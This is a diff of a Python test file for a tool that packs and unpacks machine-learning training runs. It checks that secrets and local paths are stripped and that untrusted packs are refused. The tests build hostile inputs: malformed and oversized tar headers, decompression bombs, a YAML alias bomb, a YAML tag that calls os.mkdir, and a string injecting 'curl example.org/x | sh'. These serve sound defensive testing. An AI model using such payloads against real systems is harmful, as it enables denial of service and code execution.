@@ -12,6 +12,7 @@ import shutil
 import sys
 import tarfile
 import tracemalloc
+import zlib
 from dataclasses import replace
 from pathlib import Path
 
@@ -20,12 +21,11 @@ import yaml
 from assets import REPOSITORY, write_reader, write_recipe
 from commands import deepspeed, python, run, run_well
 
-from lezo_ds.errors import UserError
+from lezo_ds.errors import JournalError, UserError
 from lezo_ds.journal import Journal, read_journal
 from lezo_ds.model.snapshots import read_manifest, snapshot_path
-from lezo_ds.runs import pack
 from lezo_ds.runs.model_card import model_card
-from lezo_ds.runs.pack import pack_run, recorded_digests, unpack_run
+from lezo_ds.runs.pack import pack_run, read_pack, recorded_digests
 from lezo_ds.runs.restore import read_run
 from lezo_ds.zo.records import StepRecord
 
@@ -54,6 +54,10 @@ def packed(finished):
         [sys.executable, str(REPOSITORY / "launch/pack.py"), "--run", str(finished), "--out", str(file)]
     )
     assert f"{file.stat().st_size:,} bytes" in printed.out
+    model = yaml.safe_load((finished / "config.yaml").read_text())["model"]["path"]
+    (warning,) = [line for line in printed.err.splitlines() if line.startswith("warning: ")]
+    assert warning.startswith("warning: the journal in the pack names paths of this machine: data.path=")
+    assert f"model.path={model}" in warning
     return file
 
 
@@ -91,17 +95,50 @@ def with_hashes(contents):
 
 
 @pytest.mark.distributed
-def test_a_pack_holds_the_runs_small_files_as_they_are_and_no_weights(finished, packed):
+def test_a_pack_holds_the_runs_small_files_and_no_weights(finished, packed):
     contents = members(packed)
     manifest = json.loads(contents.pop("pack.json"))
     assert sorted(contents) == SMALL_FILES
     for name, content in contents.items():
-        assert content == (finished / name).read_bytes()
         assert manifest["files"][name] == hashlib.sha256(content).hexdigest()
+    for name in ("journal.jsonl", "results.json"):
+        assert contents[name] == (finished / name).read_bytes()
     results = json.loads(contents["results.json"])
     assert manifest["model_fingerprint"] == results["model_fingerprint"]
     assert manifest["digests"][str(results["best_step"])] == results["weights_digest"]
     assert manifest["digests"]["8"] == read_manifest(snapshot_path(finished / "snapshots", 8))["digest"]
+
+
+@pytest.mark.distributed
+def test_no_secret_and_no_path_of_this_machine_is_packed_outside_the_journal(finished, recipe, tmp_path):
+    """In environment.json as versions before wrote it: with the whole command line."""
+    shutil.copytree(finished, tmp_path / "run")
+    file = tmp_path / "run" / "environment.json"
+    recorded = json.loads(file.read_text())
+    words = ["python", "/data/alice/own_loop.py", f"data.path={recipe.parent / 'data'}", "seed=3"]
+    file.write_text(
+        json.dumps(recorded | {"command": [*words, "--hub_token", "hf_secret", "HF_TOKEN=hf_secret"]})
+    )
+    pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
+    contents = members(tmp_path / "run.tar.gz")
+    environment = json.loads(contents["environment.json"])
+    assert environment.pop("command") == [
+        "python",
+        "own_loop.py",
+        "data.path=data",
+        "seed=3",
+        "...",
+        "...",
+        "...",
+    ]
+    assert environment == {name: value for name, value in recorded.items() if name != "command"}
+    config = yaml.safe_load((finished / "config.yaml").read_text())
+    config |= {"run_dir": "run", "deepspeed": "zero3_cpu.json"}
+    config |= {section: config[section] | {"path": section} for section in ("model", "data")}
+    assert yaml.safe_load(contents["config.yaml"]) == config
+    del contents["journal.jsonl"]
+    private = [b"hf_secret", b"alice", str(recipe.parent).encode(), str(finished.parent).encode()]
+    assert not [name for name, content in contents.items() if any(text in content for text in private)]
 
 
 @pytest.mark.distributed
@@ -217,9 +254,9 @@ def test_an_unfinished_run_is_packed_as_far_as_it_went(finished, tmp_path):
     shutil.rmtree(tmp_path / "run" / "snapshots")
     pack_run(tmp_path / "run", tmp_path / "run.tar.gz")
     (tmp_path / "unpacked").mkdir()
-    pack = unpack_run(tmp_path / "run.tar.gz", tmp_path / "unpacked")
+    run, pack = read_pack(tmp_path / "run.tar.gz", tmp_path / "unpacked")
     assert pack.digests == {}
-    assert read_run(tmp_path / "unpacked").num_steps == 8
+    assert run.num_steps == 8
 
 
 @pytest.mark.distributed
@@ -248,6 +285,17 @@ def test_what_cannot_be_packed_is_refused(finished, tmp_path):
 # Packs that nobody should trust
 
 
+def refused_reading(file, directory, problem):
+    """Assert that a pack is refused, that nothing is written and that it takes little memory."""
+    tracemalloc.start()
+    with pytest.raises(UserError, match=f"is not a valid pack; got: .*{problem}"):
+        read_pack(file, directory)
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert peak < 64 << 20
+    assert not directory.exists()
+
+
 @pytest.mark.distributed
 @pytest.mark.parametrize(
     "name",
@@ -260,59 +308,72 @@ def test_what_cannot_be_packed_is_refused(finished, tmp_path):
 )
 def test_a_name_that_no_run_writes_is_refused_and_nothing_is_written(name, packed, tmp_path):
     bad = write_archive(tmp_path / "bad.tar.gz", with_hashes(members(packed) | {name: b"text"}))
-    (tmp_path / "out").mkdir()
-    with pytest.raises(UserError, match=r"is not a valid pack; got: .*(outside|unexpected member)"):
-        unpack_run(bad, tmp_path / "out")
-    assert sorted(path.name for path in tmp_path.rglob("*")) == ["bad.tar.gz", "out"]
+    refused_reading(bad, tmp_path / "out", "unexpected member")
 
 
-def sparse(size):
-    """Return a member of one byte that says it has `size` of them: the rest is a hole."""
-    member = tarfile.TarInfo("results.json")
-    member.pax_headers = {"GNU.sparse.map": "0,1", "GNU.sparse.size": str(size)}
-    return member
+def pax(kind, records, size=None):
+    """Return an extended header by hand: its block, and the blocks of its records, each with its length."""
+    lengths = [len(key) + len(value) + 3 for key, value in records]
+    lengths = [length + len(str(length + len(str(length)))) for length in lengths]
+    body = b"".join(b"%d %s=%s\n" % (n, *record) for n, record in zip(lengths, records, strict=True))
+    header = tarfile.TarInfo("pax")
+    header.type, header.size = kind, len(body) if size is None else size
+    return header.tobuf(tarfile.GNU_FORMAT) + body + bytes(-len(body) % tarfile.BLOCKSIZE)
 
 
-def of_kind(kind):
-    member = tarfile.TarInfo("results.json")
-    member.type, member.linkname = kind, "config.yaml"
-    return member
+def plain(name, size=0, kind=tarfile.REGTYPE):
+    member = tarfile.TarInfo(name)
+    member.type, member.size, member.linkname = kind, size, "config.yaml"
+    return member.tobuf(tarfile.USTAR_FORMAT)
 
 
-@pytest.mark.distributed
-@pytest.mark.parametrize(
-    "member",
-    [sparse(4 << 30), *map(of_kind, (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE))],
-    ids=["sparse", "symbolic link", "link", "pipe", "directory"],
-)
-def test_only_plain_files_are_taken(member, packed, tmp_path):
-    contents = {name: content for name, content in members(packed).items() if name != "results.json"}
-    bad = write_archive(tmp_path / "bad.tar.gz", with_hashes(contents) | {"results.json": member})
-    tracemalloc.start()
-    with pytest.raises(UserError, match=r"'results.json' is a special file|unexpected member 'results.json'"):
-        unpack_run(bad, tmp_path)
-    assert tracemalloc.get_traced_memory()[1] < 16 << 20
-    tracemalloc.stop()
-
-
-@pytest.mark.distributed
-def test_a_small_file_that_would_become_a_huge_one_is_refused(packed, tmp_path, monkeypatch):
-    monkeypatch.setattr(pack, "MAX_BYTES", 1 << 16)
-    bad = write_archive(tmp_path / "bad.tar.gz", members(packed) | {"results.json": bytes(1 << 20)})
-    assert bad.stat().st_size < 1 << 14
-    with pytest.raises(UserError, match="more than 65536 bytes"):
-        unpack_run(bad, tmp_path)
-
-
-def headers_without_end():
-    """Return an archive of nothing but extended headers, each of which announces the next."""
-    header = tarfile.TarInfo("long")
-    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 0
-    return gzip.compress(header.tobuf(tarfile.GNU_FORMAT) * 5000)
+MANY = [(b"key%05d" % number, b"value") for number in range(30_000)]
+HEADERS = {
+    "sparse": pax(b"x", [(b"GNU.sparse.size", b"4294967296"), (b"GNU.sparse.map", b"0,1")])
+    + plain("results.json", 1),
+    "sparse of many parts": pax(b"x", [(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0")])
+    + plain("results.json", 4096)
+    + b"%d\n" % 10**9
+    + b"1\n" * 2000,
+    "GNU sparse": plain("results.json", 1, tarfile.GNUTYPE_SPARSE),
+    "headers of headers": pax(b"x", []) * 5000,
+    "global header": pax(b"g", MANY) + pax(b"x", MANY[:1]) * 500 + plain("results.json"),
+    "global headers": pax(b"g", MANY[:100]) * 200,
+    "slow length": pax(b"x", [(b"x" * 100_000, b"")]),
+    "negative length": pax(b"x", [], -512),
+    "long name": plain("long", 1 << 30, tarfile.GNUTYPE_LONGNAME),
+    "longer than its data": plain("results.json", 1 << 30),
+    **{kind.decode(): plain("results.json", 0, kind) for kind in (b"1", b"2", b"3", b"4", b"5", b"6", b"7")},
+}
 
 
 @pytest.mark.distributed
-def test_what_is_damaged_malformed_or_missing_is_refused_in_one_line(packed, tmp_path):
+@pytest.mark.parametrize("headers", HEADERS.values(), ids=HEADERS)
+def test_only_plain_files_are_taken_and_no_extended_header_is_followed(headers, packed, tmp_path):
+    whole = gzip.decompress(packed.read_bytes())
+    bad = tmp_path / "bad.tar.gz"
+    bad.write_bytes(gzip.compress(headers + whole))
+    refused_reading(bad, tmp_path / "out", "(unexpected member|it unpacks to more|InvalidHeaderError)")
+
+
+@pytest.mark.distributed
+def test_a_small_file_that_would_become_a_huge_one_is_refused(packed, tmp_path):
+    bad = write_archive(tmp_path / "bad.tar.gz", members(packed) | {"results.json": bytes(30 << 20)})
+    assert bad.stat().st_size < 50_000
+    refused_reading(bad, tmp_path / "out", "it unpacks to more than")
+
+
+def with_journal(contents, *lines):
+    """Return the contents with a journal of these lines, whose checksums are valid."""
+    text, crc = b"", 0
+    for body in lines:
+        crc = zlib.crc32(body, crc)
+        text += body[:-1] + b',"crc":"%08x"}\n' % crc
+    return with_hashes(contents | {"journal.jsonl": text})
+
+
+@pytest.mark.distributed
+def test_what_is_damaged_or_malformed_is_refused_in_one_line(packed, tmp_path):
     contents, whole = members(packed), packed.read_bytes()
     middle = len(whole) // 2
     files = {
@@ -321,27 +382,55 @@ def test_what_is_damaged_malformed_or_missing_is_refused_in_one_line(packed, tmp
         "text": b"text",
         "empty": b"",
         "gzip": gzip.compress(b"text" * 1000),
-        "headers": headers_without_end(),
     }
     for name, data in files.items():
         (tmp_path / name).write_bytes(data)
-    manifest, deep = json.loads(contents["pack.json"]), b"[" * 100_000
+    manifest, deep = json.loads(contents["pack.json"]), b"[" * 50_000
+    bomb = b"a: &a {x: 1}\n" + b"".join(
+        b"%c: &%c {<<: [%s]}\n" % (c + 1, c + 1, b", ".join([b"*%c" % c] * 9)) for c in b"abcdefghij"
+    )
     archives = {
         "changed": contents | {"config.yaml": contents["config.yaml"] + b"\n"},
         "bare": {name: content for name, content in contents.items() if name != "pack.json"},
         "partial": with_hashes({n: c for n, c in contents.items() if n != "journal.jsonl"}),
         "newer": contents | {"pack.json": json.dumps(manifest | {"format_version": 2}).encode()},
-        "types": contents | {"pack.json": json.dumps(manifest | {"digests": [1]}).encode()},
         "list": contents | {"pack.json": b"[]"},
         "deep": contents | {"pack.json": deep},
-        "deep inside": with_hashes(contents | {"environment.json": deep}),
+        "wide": contents | {"pack.json": b"[" + b"[]," * 300_000 + b"[]]"},
+        "deep environment": with_hashes(contents | {"environment.json": deep}),
+        "long environment": with_hashes(contents | {"environment.json": b"{" + b" " * 70_000 + b"}"}),
+        "results": with_hashes(contents | {"results.json": b"[]"}),
+        "tag": with_hashes(contents | {"config.yaml": b"!!python/object/apply:os.mkdir [made]"}),
+        "bomb": with_hashes(contents | {"config.yaml": bomb}),
+        "deep config": with_hashes(contents | {"config.yaml": b"[" * 5000}),
+        "deep journal": with_journal(contents, b'{"config":' + deep + b"}"),
+        "list of a journal": with_journal(contents, b"[]"),
+        "types in a journal": with_journal(
+            contents,
+            json.dumps(
+                {
+                    "kind": "header",
+                    "format_version": 1,
+                    "noise_version": 1,
+                    "model_fingerprint": [],
+                    "parameter_table_hash": "",
+                    "config": [1],
+                    "libraries": [],
+                }
+            ).encode(),
+        ),
     }
+    for wrong in ({"digests": [1]}, {"digests": {"8": 1}}, {"files": "x"}, {"base_model": {}}, {"more": 1}):
+        archives[str(wrong)] = contents | {"pack.json": json.dumps(manifest | wrong).encode()}
     for name, members_of in archives.items():
         write_archive(tmp_path / name, members_of)
+    (tmp_path / "out").mkdir()
     for name in (*files, *archives, "absent"):
-        with pytest.raises(UserError, match="is not a valid pack"):
-            unpack_run(tmp_path / name, tmp_path / "out")
-    assert not (tmp_path / "out").exists()
+        with pytest.raises(
+            (UserError, JournalError), match=r"is not a valid pack|journal\.jsonl line 1 is damaged"
+        ):
+            read_pack(tmp_path / name, tmp_path / "out")
+    assert not (tmp_path / "made").exists()
 
 
 HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"
